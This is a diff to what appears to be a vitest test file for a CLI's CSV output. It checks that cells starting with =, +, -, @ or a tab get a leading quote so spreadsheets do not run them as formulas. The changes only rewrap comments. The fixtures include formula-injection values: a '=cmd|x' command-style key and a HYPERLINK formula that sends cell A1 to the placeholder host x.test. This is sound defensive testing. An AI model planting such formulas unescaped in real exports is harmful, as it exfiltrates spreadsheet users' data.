@@ -1,7 +1,7 @@
 // Cells a spreadsheet would run as formulas, in every command's -o csv (docs/reference/output.md,
-// "CSV"): a transaction description, a merchant name or a key that starts with =, +, -, @ or a
-// tab is written with a ' in front; plain numbers, negative amounts among them, are left alone.
-// A person at a terminal and a script, each way: the whole-reply writer and merchants' streamed one.
+// "CSV"): a transaction description, a merchant name or a key that starts with =, +, -, @ or a tab
+// is written with a ' in front; plain numbers, negative amounts among them, are left alone. A
+// person at a terminal and a script, each way: the whole-reply writer and merchants' streamed one.
 // Numbers are written as the reply has them, every digit kept (-1e400 too), and never prefixed.
 import { describe, expect, it } from 'vitest';
 
@@ -32,7 +32,10 @@ const TRANSACTIONS = {
     { ...transaction('txn_5', TAB, { debit: 5 }), '=cmd|x': '-x' },
   ],
 };
-/** The documented fields first, in their documented order (docs/reference/output.md, "CSV"): credit before balance. */
+/**
+ * The documented fields first, in their documented order (docs/reference/output.md, "CSV"): credit
+ * before balance.
+ */
 const EXPECTED_TRANSACTIONS = [
   "id,date,description,debit,credit,balance,category,'=cmd|x",
   `txn_1,2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",-12.5,,-300,other,`,
